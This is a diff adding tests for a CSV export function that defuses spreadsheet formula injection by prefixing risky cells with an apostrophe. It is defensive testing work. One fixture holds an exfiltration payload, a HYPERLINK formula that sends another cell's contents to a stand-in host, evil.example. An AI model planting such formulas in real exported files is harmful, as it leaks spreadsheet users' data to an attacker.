@@ -62,3 +62,20 @@ describe("imported downloads", () => {
     expect(all).toContain("'-2+3");
   });
 });
+
+describe("the neutraliser", () => {
+  it("prefixes = + @ tab CR and - (unless a plain number) with ', leaves the rest", async () => {
+    const { neutraliseCell } = await import("../../src/lib/csv.ts");
+    for (const v of ["=1+1", "+4 points", "@SUM(A1)", "\tx", "\rx", "-x", "-2+3", "--1", "-"]) expect(neutraliseCell(v), JSON.stringify(v)).toBe(`'${v}`);
+    for (const v of ["-3", "-3.5", "3", "a=b", "", " =x", "'=x"]) expect(neutraliseCell(v), JSON.stringify(v)).toBe(v);
+  });
+  it("downloadCsv and downloadCsvText write the neutralised cells, which read back as written", async () => {
+    const { downloadCsv, downloadCsvText, readCsv } = await import("../../src/lib/csv.ts");
+    const rows = [{ a: '=HYPERLINK("http://evil.example/?x="&C2,"Click")', b: -3.5 }, { a: "plain, text", b: "+4" }];
+    const csv = downloadCsv(rows, ["a", "b"]);
+    expect(csv.startsWith("\uFEFFa,b\n")).toBe(true);
+    expect(readCsv(csv.slice(1), "d.csv").records).toEqual([[`'=HYPERLINK("http://evil.example/?x="&C2,"Click")`, "-3.5"], ["plain, text", "'+4"]]);
+    expect(readCsv(downloadCsvText('a,b\n"=x",1\n', "t.csv").slice(1), "t.csv").records).toEqual([["'=x", "1"]]);
+    expect(downloadCsvText("a,b\nx,-1\n", "t.csv")).toBe("\uFEFFa,b\nx,-1\n");
+  });
+});
